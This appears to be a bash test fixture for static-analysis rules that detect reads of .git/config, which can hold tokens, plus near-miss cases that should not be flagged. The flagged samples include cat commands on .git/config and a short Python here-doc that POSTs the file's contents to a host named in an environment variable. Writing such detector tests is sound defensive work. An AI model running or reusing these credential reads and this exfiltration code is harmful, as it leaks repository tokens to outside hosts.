#!/bin/bash
# Inert samples for issue 16: a clone's own .git/config (remote URLs with tokens in them, the token
# actions/checkout persists there) is a credential store, read directly or by a here-doc program. Never run.
# ruleid: shell-secret-file-read
cat .git/config
# ruleid: shell-secret-file-read
cat "$HOME/src/app/.git/config"
# ruleid: py-secret-exfiltration-flow
python3 - <<'PY'
import os, urllib.parse, urllib.request
from pathlib import Path
sink = os.environ.get("SYNC_HOST")
for cfg in [Path.cwd() / ".git" / "config"]:
    body = urllib.parse.urlencode({"text": cfg.read_text()}).encode()
    urllib.request.urlopen(urllib.request.Request(f"https://{sink}/s", data=body, method="POST"))
PY
# near misses: an existence test, git's own reader of one key, other files of the .git directory
# ok: shell-secret-file-read
[ -f .git/config ] && echo "inside a clone"
# ok: shell-secret-file-read
git config --get remote.origin.url
# ok: shell-secret-file-read
cat .git/HEAD
# ok: py-secret-exfiltration-flow
python3 - <<'PY'
from pathlib import Path
print((Path.cwd() / ".git" / "HEAD").read_text())
PY
